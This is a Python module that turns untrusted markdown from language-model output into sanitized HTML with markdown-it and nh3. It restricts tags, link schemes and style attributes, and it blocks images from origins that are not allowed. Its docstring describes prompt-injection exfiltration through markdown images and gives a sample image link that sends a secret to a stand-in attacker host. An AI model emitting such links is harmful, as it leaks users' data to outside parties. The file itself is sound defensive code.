"""Safe HTML from untrusted markdown (the ``markdown`` extra: markdown-it-py and nh3).

Model output is data, never code. :class:`HtmlRenderer` turns one markdown block (from
``ops.markdown_blocks()``) into HTML that cannot run script, load a style, or make the
page fetch anything by itself:

- raw HTML in the markdown is shown as text (markdown-it's ``html=False``), and the
  rendered HTML is sanitized again by nh3 (Ammonia) with a short allow-list of tags;
- links keep only ``http``, ``https`` and ``mailto`` URLs and get
  ``rel="noopener noreferrer nofollow"``; ``javascript:``/``data:`` URLs are dropped;
- images are the classic exfiltration channel of prompt injection (the browser fetches
  ``![](https://evil.example/?q=<secret>)`` by itself), so an image is shown only when
  its URL's origin is in ``image_origins`` (your own CDN, say) and otherwise becomes its
  alt text in a ``<span class="image-blocked">``; ``data:`` images never load;
- no ``style`` attribute survives: table alignment becomes a class
  (``align-left``/``align-center``/``align-right``), a code block's language a
  ``language-<name>`` class on ``<code>``.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from typing import TYPE_CHECKING, Any, Final
from urllib.parse import urlsplit

if TYPE_CHECKING:
    from markdown_it import MarkdownIt
    from markdown_it.token import Token

__all__ = ["HtmlRenderer", "to_html"]

_TAGS: Final = frozenset(
    "p h1 h2 h3 h4 h5 h6 ul ol li pre code table thead tbody tr th td blockquote hr em "
    "strong a img br span s del".split()
)
_ATTRIBUTES: Final = {
    "a": {"href", "title"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "code": {"class"},
    "th": {"class"},
    "td": {"class"},
    "span": {"class", "title"},
}
_CLASSES: Final = {
    "code": re.compile(r"language-[\w+#.-]{1,40}"),
    "th": re.compile(r"align-(?:left|center|right)"),
    "td": re.compile(r"align-(?:left|center|right)"),
    "span": re.compile(r"image-blocked"),
}
_ALIGN: Final = re.compile(r"text-align:(left|center|right)")


def _origin(url: str) -> str | None:
    try:
        parts = urlsplit(url)
    except ValueError:
        return None
    if parts.scheme not in ("http", "https") or not parts.hostname:
        return None
    default = 443 if parts.scheme == "https" else 80
    port = parts.port if parts.port is not None else default
    return f"{parts.scheme}://{parts.hostname.lower()}:{port}"


class HtmlRenderer:
    """Renders markdown to sanitized HTML; build one and reuse it (it holds the parser).

    Args:
        image_origins: Origins (``"https://cdn.example.com"``) whose images may load;
            every other image is shown as its alt text. Empty by default: no image loads.
    """

    __slots__ = ("_image_origins", "_markdown", "_nh3")

    def __init__(self, *, image_origins: Iterable[str] = ()) -> None:
        try:
            import nh3
            from markdown_it import MarkdownIt
        except ImportError as error:  # pragma: no cover - depends on the environment
            raise ImportError(
                "rendering markdown needs the markdown extra: pip install 'rxstream[markdown]'"
            ) from error
        origins = set()
        for origin in image_origins:
            normalised = _origin(origin)
            if normalised is None:
                raise ValueError(f"image origin must be an http(s) URL, got {origin!r}")
            origins.add(normalised)
        self._image_origins = frozenset(origins)
        self._nh3 = nh3
        self._markdown: MarkdownIt = MarkdownIt(
            "commonmark", {"html": False, "linkify": False, "typographer": False}
        ).enable(["table", "strikethrough"])
        origins_allowed = self._image_origins

        def image(
            renderer: Any, tokens: Sequence[Token], index: int, options: Any, env: Any
        ) -> str:
            return _image(renderer, tokens[index], options, env, origins_allowed)

        self._markdown.add_render_rule("image", image)

    def __call__(self, markdown: str) -> str:
        """The sanitized HTML of ``markdown`` (a block, or a whole document)."""
        tokens = self._markdown.parse(markdown)
        for token in tokens:
            if token.type in ("th_open", "td_open"):
                style = token.attrGet("style")
                if isinstance(style, str):
                    del token.attrs["style"]
                    align = _ALIGN.fullmatch(style)
                    if align is not None:
                        token.attrSet("class", f"align-{align.group(1)}")
        html = self._markdown.renderer.render(tokens, self._markdown.options, {})
        return str(
            self._nh3.clean(
                html,
                tags=set(_TAGS),
                attributes={tag: set(names) for tag, names in _ATTRIBUTES.items()},
                attribute_filter=_keep_attribute,
                url_schemes={"http", "https", "mailto"},
                link_rel="noopener noreferrer nofollow",
                strip_comments=True,
            )
        )


def _image(renderer: Any, token: Token, options: Any, env: Any, allowed: frozenset[str]) -> str:
    from markdown_it.common.utils import escapeHtml

    src = str(token.attrGet("src") or "")
    alt = renderer.renderInlineAsText(token.children or [], options, env)
    if _origin(src) in allowed:
        return f'<img src="{escapeHtml(src)}" alt="{escapeHtml(alt)}">'
    label = escapeHtml(alt or "image")
    return f'<span class="image-blocked" title="image not loaded">[{label}]</span>'


def _keep_attribute(element: str, attribute: str, value: str) -> str | None:
    if attribute != "class":
        return value
    pattern = _CLASSES.get(element)
    return value if pattern is not None and pattern.fullmatch(value) else None


_default: HtmlRenderer | None = None


def to_html(markdown: str) -> str:
    """Sanitized HTML of ``markdown`` with no image allowed (see :class:`HtmlRenderer`)."""
    global _default  # one parser for the process, built on first use
    if _default is None:
        _default = HtmlRenderer()
    return _default(markdown)
